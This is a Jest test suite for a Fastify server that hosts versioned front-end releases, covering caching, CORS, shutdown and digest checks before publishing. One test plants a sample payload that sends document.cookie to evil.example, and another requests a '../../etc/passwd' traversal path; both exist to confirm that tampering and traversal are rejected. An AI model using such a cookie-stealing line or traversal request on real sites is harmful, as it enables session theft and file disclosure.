/** @jest-environment node */
import { mkdirSync, rmSync, writeFileSync } from 'node:fs';
import { brotliCompressSync } from 'node:zlib';
import { join } from 'node:path';
import type { FastifyInstance } from 'fastify';
import { createFakeDist, type FakeDist } from '../testing/fakeDist';
import { fakeReleaseFiles, fakeReleaseRecord } from '../testing/fakeRelease';
import { listen, request, stalledDownload, stallingFileBytes } from '../testing/http';
import { modulesShellNeeds, releaseProblems } from './releaseCheck';
import { CLOSE_GRACE_MS } from '../listening';
import { buildReleaseHost, startReleaseHost } from './releaseHost';

const prefixed = (prefix: string, files: Record<string, string>) =>
  Object.fromEntries(Object.entries(files).map(([path, text]) => [`${prefix}${path}`, text]));

const v1 = fakeReleaseFiles('gallery', { mark: 'v1' });
const v2 = fakeReleaseFiles('gallery', { mark: 'v2' });
const partial = fakeReleaseFiles('gallery', { mark: 'v3', exposes: ['HomeEvents'] });

let store: FakeDist;
let host: FastifyInstance;
let base: string;

beforeAll(async () => {
  store = createFakeDist({
    ...prefixed('gallery/1.0.0-aaa/', v1),
    ...prefixed('gallery/2.0.0-bbb/', v2),
    ...prefixed('gallery/3.0.0-ccc/', partial),
    ...prefixed('gallery/.incoming-1-4.0.0-ddd/', v1),
  });
  host = buildReleaseHost({
    root: store.root,
    env: { SHELL_ORIGINS: 'https://www.harmoni.example' },
  });
  base = `${await listen(host)}/`;
});
afterAll(async () => {
  await host.close();
  store.remove();
});

describe('the release host', () => {
  it('serves every release side by side, cached for good, to the shell cross-origin', async () => {
    for (const [id, files] of [
      ['1.0.0-aaa', v1],
      ['2.0.0-bbb', v2],
    ] as const) {
      const res = await request(`${base}gallery/${id}/assets/docs/note.txt`, {
        headers: { origin: 'https://www.harmoni.example' },
      });
      expect(res.body).toBe(files['assets/docs/note.txt']);
      expect(res.headers['cache-control']).toBe('public, max-age=31536000, immutable');
      expect(res.headers['access-control-allow-origin']).toBe('https://www.harmoni.example');
    }
  });

  it('does not serve a release still being written, nor anything outside the store', async () => {
    expect(
      (await request(`${base}gallery/.incoming-1-4.0.0-ddd/mf-manifest.json`)).statusCode,
    ).toBe(404);
    expect((await request(`${base}gallery/1.0.0-aaa/../../etc/passwd`)).statusCode).toBe(404);
  });
});

describe('the release host started on its own', () => {
  it('waits for the first release when none is published yet, and serves it once it is', async () => {
    const empty = join(store.root, '..', `${store.root.split('/').at(-1)}-empty`, 'releases');
    const lines: string[] = [];
    const started = await startReleaseHost({
      root: empty,
      port: 0,
      env: {},
      logStream: { write: (line) => lines.push(line) },
    });
    try {
      // written by default, as every warning is
      expect(lines.map((line) => JSON.parse(line) as { level: number; msg: string })).toEqual([
        expect.objectContaining({
          level: 40,
          msg: expect.stringMatching(/^No release is published yet: .* was created empty/),
        }),
      ]);
      const file = `http://localhost:${started.port}/gallery/1.0.0-aaa/assets/docs/note.txt`;
      expect((await request(file)).statusCode).toBe(404);
      expect((await request(`http://localhost:${started.port}/healthz`)).statusCode).toBe(200);
      // published while it runs
      mkdirSync(join(empty, 'gallery', '1.0.0-aaa', 'assets', 'docs'), { recursive: true });
      writeFileSync(join(empty, 'gallery/1.0.0-aaa/assets/docs/note.txt'), 'first');
      expect((await request(file)).body).toBe('first');
    } finally {
      await started.close();
      rmSync(join(empty, '..'), { recursive: true, force: true });
    }
  });

  it('refuses a store that is a file', () => {
    const file = join(store.root, 'gallery', '1.0.0-aaa', 'assets', 'docs', 'note.txt');
    expect(() => buildReleaseHost({ root: file, env: {} })).toThrow(/is a file, not a folder/);
  });

  it('does not let a connection held open stop it from closing', async () => {
    const big = join(store.root, 'gallery', '1.0.0-aaa', 'static', 'big.bin');
    writeFileSync(big, stallingFileBytes());
    const started = await startReleaseHost({ root: store.root, port: 0, env: {} });
    const socket = await stalledDownload(started.port, '/gallery/1.0.0-aaa/static/big.bin');
    const closing = Date.now();
    await started.close();
    expect(Date.now() - closing).toBeLessThan(CLOSE_GRACE_MS + 2000);
    socket.destroy();
    rmSync(big);
  }, 15_000);
});

describe('the checks before a release goes live', () => {
  it('pass for a release served as recorded that exposes what the shell loads', async () => {
    const url = `${base}gallery/1.0.0-aaa/`;
    expect(await releaseProblems('gallery', fakeReleaseRecord(v1, url, '1.0.0-aaa'))).toEqual([]);
  });

  it("name a file whose bytes differ from the recorded digest (the release's files changed)", async () => {
    const url = `${base}gallery/2.0.0-bbb/`;
    const record = fakeReleaseRecord(v2, url, '2.0.0-bbb');
    writeFileSync(
      join(store.root, 'gallery/2.0.0-bbb/static/js/gallery.v2.js'),
      'alert("tampered")',
    );
    try {
      expect(await releaseProblems('gallery', record)).toEqual([
        expect.stringMatching(
          /^static\/js\/gallery\.v2\.js as served does not match its recorded digest/,
        ),
      ]);
    } finally {
      writeFileSync(
        join(store.root, 'gallery/2.0.0-bbb/static/js/gallery.v2.js'),
        v2['static/js/gallery.v2.js'] ?? '',
      );
    }
  });

  /** The release's one file under `folder`: its fake build has one chunk and one style sheet. */
  const fileUnder = (files: Record<string, string>, folder: string) =>
    Object.keys(files).find((path) => path.startsWith(folder)) ?? '';

  it.each([
    ['a chunk of an exposed module', fileUnder(v2, 'static/js/async/')],
    ['a style sheet', fileUnder(v2, 'static/css/async/')],
  ])('refuse %s changed on the release host after publishing, naming it', async (_what, path) => {
    const url = `${base}gallery/2.0.0-bbb/`;
    const record = fakeReleaseRecord(v2, url, '2.0.0-bbb');
    expect(record.integrity[path]).toBeDefined();
    const file = join(store.root, 'gallery/2.0.0-bbb', path);
    writeFileSync(file, 'fetch("https://evil.example/?" + document.cookie)');
    try {
      expect(await releaseProblems('gallery', record)).toEqual([
        `${path} as served does not match its recorded digest ${record.integrity[path]}`,
      ]);
    } finally {
      writeFileSync(file, v2[path] ?? '');
    }
  });

  it('refuse a release whose manifest names a file with no recorded digest, naming it', async () => {
    // a record written before every file was recorded: only its manifest, entry and view
    const url = `${base}gallery/1.0.0-aaa/`;
    const full = fakeReleaseRecord(v1, url, '1.0.0-aaa');
    const chunk = fileUnder(v1, 'static/js/async/');
    const styles = fileUnder(v1, 'static/css/async/');
    const record = {
      ...full,
      integrity: Object.fromEntries(
        Object.entries(full.integrity).filter(([path]) => path !== chunk && path !== styles),
      ),
    };
    expect(await releaseProblems('gallery', record)).toEqual([
      `its manifest names files with no recorded digest, which nothing would check (publish it again with this build tooling): ${chunk}, ${styles}`,
    ]);
  });

  it('name a file whose compressed copy holds other bytes than the file itself', async () => {
    const url = `${base}gallery/1.0.0-aaa/`;
    const entry = join(store.root, 'gallery/1.0.0-aaa/static/js/gallery.v1.js.br');
    writeFileSync(entry, brotliCompressSync('alert("another build")'));
    try {
      expect(await releaseProblems('gallery', fakeReleaseRecord(v1, url, '1.0.0-aaa'))).toEqual([
        expect.stringMatching(
          /^static\/js\/gallery\.v1\.js as served \(sent as br\) does not match its recorded digest/,
        ),
      ]);
    } finally {
      rmSync(entry);
    }
  });

  it('name the modules the shell loads that the release does not expose', async () => {
    const url = `${base}gallery/3.0.0-ccc/`;
    const missing = modulesShellNeeds('gallery').filter((name) => name !== 'HomeEvents');
    expect(missing).toEqual(expect.arrayContaining(['AlbumPage', 'concertService']));
    expect(await releaseProblems('gallery', fakeReleaseRecord(partial, url, '3.0.0-ccc'))).toEqual([
      `it does not expose what the shell loads from gallery: ${missing.join(', ')}`,
    ]);
  });

  it('refuse a release whose manifest does not load', async () => {
    const record = fakeReleaseRecord(v1, `${base}gallery/9.9.9-zzz/`, '9.9.9-zzz');
    expect(await releaseProblems('gallery', record)).toEqual([
      expect.stringMatching(/^its manifest does not load: .*HTTP 404/),
    ]);
  });

  it('refuse an entry the registry records no digest for', async () => {
    const url = `${base}gallery/1.0.0-aaa/`;
    const record = fakeReleaseRecord(v1, url, '1.0.0-aaa');
    delete record.integrity['static/js/gallery.v1.js'];
    expect(await releaseProblems('gallery', record)).toEqual([
      'its manifest names the entry static/js/gallery.v1.js, which has no recorded digest',
    ]);
  });
});
